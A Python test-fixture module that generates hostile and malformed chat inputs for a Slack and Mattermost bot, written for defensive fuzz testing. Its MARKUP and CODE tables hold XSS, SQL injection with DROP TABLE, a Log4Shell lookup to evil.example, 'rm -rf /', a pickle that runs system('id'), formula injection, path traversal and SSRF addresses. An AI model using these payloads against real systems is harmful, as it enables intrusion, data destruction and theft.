"""What attackers and unlucky people send, and how much of it one run sends."""

import os
from collections.abc import Iterator, Sequence
from itertools import count, islice
from typing import Any, Final, TypeVar

from playground.identity import person_id
from tests.mischief.words import HOSTILE

One = TypeVar("One")

HOW_MANY: Final = int(os.environ.get("PROSPECT_TEST_HOSTILE") or 1_500)
"""All of it is 10,000 (CONTRIBUTING.md)."""
SHARES: Final = {
    "slack commands": 0.28,
    "slack forms": 0.12,
    "slack buttons": 0.09,
    "slack lookups": 0.05,
    "slack words": 0.05,
    "slack bodies": 0.06,
    "slack random": 0.08,
    "mattermost commands": 0.13,
    "mattermost forms": 0.07,
    "mattermost buttons": 0.03,
    "mattermost bodies": 0.02,
    "mattermost random": 0.02,
}
MARK: Final = "zqxjkv"
"""Stands in everything that is typed, and must stand in no log line."""

VICTIM: Final = person_id("chloe")
"""Somebody of the team who does nothing."""

PINGS: Final = {
    "everybody of a channel": "<!channel>",
    "everybody here": "<!here>",
    "everybody at all": "<!everyone>",
    "everybody with a label": "<!channel|channel>",
    "a group": "<!subteam^S012345>",
    "a group with a label": "<!subteam^S012345|@all>",
    "a ping in capitals": "<!CHANNEL> <!Here>",
    "a ping escaped once": "&lt;!channel&gt;",
    "a ping escaped twice": "&amp;lt;!channel&amp;gt;",
    "a ping by numbers": "&#60;!channel&#62; &#x3c;!here&#x3e;",
    "a ping cut in two": "<!cha nnel> <!\nchannel>",
    "a ping inside another": "<<!channel>!channel>",
    "a ping put together": "&lt<!channel>;!here>",
    "a date that pings": "<!date^1392734382^<!channel>|x>",
    "a link that pings": "<https://a.example|<!channel>>",
    "plain pings": "@all @here @channel @everyone",
    "pings in capitals": "@ALL @Here @ChAnNeL",
    "pings beside signs": ".@all -@here _@channel_ (@all) **@all** `@all` +@here",
    "a ping behind a sign's name": "&commat;all &#64;here &#x40;channel",
    "a ping with a hidden blank": "@\u200ball @\u2060here @\ufeffchannel <\u200b!channel>",
    "a ping of look-alikes": "@аll @hеre ＠all ＠channel ﹫here",
    "a person": f"<@{VICTIM}> @alice @bob",
    "a person with a label": f"<@{VICTIM}|victim>",
    "a channel": "<#C0EQUIPE> <#C0EQUIPE|equipe> ~town-square ~equipe #equipe",
    "our own sign of a person": f"@{{{VICTIM}}} @{{alice}} @{{zzz}} #{{C0EQUIPE}}",
    "our own sign within itself": f"@{{@{{{VICTIM}}}}} @@{{{{{VICTIM}}}}}",
}
MARKUP: Final = {
    "a script": "<script>alert(1)</script>",
    "an image that breaks": '"><img src=x onerror=alert(1)>',
    "an address that runs": "[x](javascript:alert(1)) <javascript:alert(1)|x>",
    "a picture from elsewhere": "![x](https://evil.example/p.png)",
    "a data address": "data:text/html;base64,PHNjcmlwdD4=",
    "entities": "&lt;script&gt; &amp;amp; &quot; &#0; &#xd800;",
    "markdown": "# h\n> q\n- l\n1. n\n***b*** ~~s~~ ||x||\n| a | b |\n|---|---|",
    "code that does not end": "```\nx `y",
    "html comments": "<!-- --><!DOCTYPE x [<!ENTITY a 'b'>]>&a;",
    "cdata": "<![CDATA[x]]>",
    "a table of pipes": "||||| \\| \\\\ |",
}
CODE: Final = {
    "sql": "' OR '1'='1'; DROP TABLE prospects; --",
    "sql union": "1) UNION SELECT * FROM sqlite_master--",
    "sql like": "%_\\%' ESCAPE '\\",
    "json sql": '{"$ne": null}',
    "jinja": "{{ config.items() }} {% raw %} {{ ''.__class__ }}",
    "format": "{0.__class__.__init__.__globals__} %(x)s %n%n%s {}",
    "dollar": "${jndi:ldap://evil.example/a} $(id) `id` ; rm -rf / | cat && x",
    "fluent": '{ $name } { -brand } { NUMBER($x) } {"{"}',
    "fluent selector": "{ $x ->\n *[a] b\n}",
    "our marks": "⟦strong⟧ ⟧⟦ \ue000 \ue001 \ue002x\ue003 \uf8ff",
    "pickle": "cos\nsystem\n(S'id'\ntR.",
    "formula": '=HYPERLINK("http://evil.example","x")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula minus and tab": "-2+3 \t=1+1",
    "a path": "../../../../etc/passwd",
    "a path of windows": "..\\..\\windows\\win.ini C:\\con\\nul",
    "a path encoded": "%2e%2e%2f%00 file:///etc/passwd",
    "an inner address": "http://169.254.169.254/latest/meta-data/ http://[::1]:8030/",
    "an option": "--help -rf --db=x",
    "a regular expression": "(a+)+$ [ \\ (?P<",
    "a header": "x\r\nSet-Cookie: a=b\r\n\r\n<html>",
    "a log line": "x\n2026-01-05T09:15:03 ERROR bot forged line",
    "an escape sequence": "\x1b[2J\x1b]0;x\x07\x08\x7f",
}
LETTERS: Final = {
    "null": "a\0b",
    "control signs": "".join(map(chr, range(1, 32))) + "\x7f\x85",
    "half a letter": "\ud800 a \udfff",
    "not a letter": "\ufffe\uffff\U0010ffff",
    "zalgo": "Z" + "\u0300\u0316\u035c" * 200,
    "right to left": "\u202eevil\u202c \u2066x\u2069 \u200f",
    "nothing to see": "\u200b\u200c\u200d\u2060\ufeff\u00ad",
    "blanks": "\u00a0\u2003\u3000\t\v\f \u2028\u2029",
    "families": "👨‍👩‍👧‍👦" * 30 + "🏳️‍🌈🇫🇷👍🏿",
    "dots of the turks": "İıſK ﬁ ß ẞ ŉ",
    "wide": "ＡＤＤ ﷽ ꧅ 𒐫",
    "other figures": "١٢٣ ² ⅷ ①",
}
SIZES: Final = {
    "10,000 letters": "a" * 10_000,
    "10,000 marks": "<" * 10_000,
    "10,000 wide letters": "\U0001f600" * 10_000,
    "10,000 lines": "x\n" * 10_000,
    "10,000 words": "x " * 10_000,
    "10,000 keys": "note:x " * 2_000,
    "10,000 quotes": '"' * 10_001,
    "10,000 brackets": "(" * 10_000,
    "10,000 accents": "e" + "\u0301" * 10_000,
    "100,000 letters": "b" * 100_000,
    "100,000 pings": "@all " * 20_000,
}
NUMBERS: Final = {
    "huge": "9" * 5_000,
    "endless": "1e999 -1e999 Infinity -Infinity",
    "not a number": "NaN nan",
    "hex": "0x7fffffffffffffff",
    "just too large": "9223372036854775808 -9223372036854775809 4294967296",
    "minus nothing": "-0 -0.0 0e0",
    "fractions": "0.1e-400 1/0 1_000 1,5",
    "days": "0000-00-00 9999-12-31 2026-02-30 -1-1-1 12026-01-01 99/99/9999",
    "hours": "25:61 -1:00 24:00:00 99h99",
    "references": "P-0 P--1 P-99999999999999999999 P-١ p-1 P-1;P-2",
}
QUOTES: Final = {
    "an open quote": '"',
    "quotes that cross": '«"“»"” \'',
    "keys without values": "contact: email: note:",
    "keys within keys": "note:note:note:x",
    "a key of signs": ":::: =:= a=b=c :x",
    "addresses": 'a@b <a@b.example>, "x"@y " " a@[127.0.0.1] a@xn--80ak6aa92e.example',
    "a telephone": "+33 1 23 45 67 89 ext 5;tel:+1 000000000000000000000000",
}
TYPED: Final = {
    **HOSTILE, **PINGS, **MARKUP, **CODE, **LETTERS, **SIZES, **NUMBERS, **QUOTES
}  # fmt: skip

DEEP: Final = 5_000
VALUES: Final[Sequence[Any]] = (
    None, True, False, 0, -1, 10**400, 1.5, float("nan"), float("inf"), "", "x", [], {}, [[]],
    [None], {"id": None}, {"": {}}, "\0", "\ud800", "a" * 100_000, "<!channel>", [{}] * 200,
)  # fmt: skip
"""In the place of whatever a payload has there."""


def share(name: str) -> int:
    return max(1, round(HOW_MANY * SHARES[name]))


def spread(found: Sequence[One], wanted: int) -> Iterator[One]:
    """As many of them as wanted, from all over; again from the start when there are too few."""
    if not found:
        raise ValueError("nothing to choose from")
    step = coprime(max(1, int(len(found) * 0.618)), len(found))
    return (found[at * step % len(found)] for at in islice(count(), wanted))


def coprime(step: int, size: int) -> int:
    """The next step that goes by all of them before it comes back."""
    while any(step % one == 0 == size % one for one in range(2, min(step, size) + 1)):
        step += 1
    return step


def marked(text: str) -> str:
    return f"{text} {MARK}"
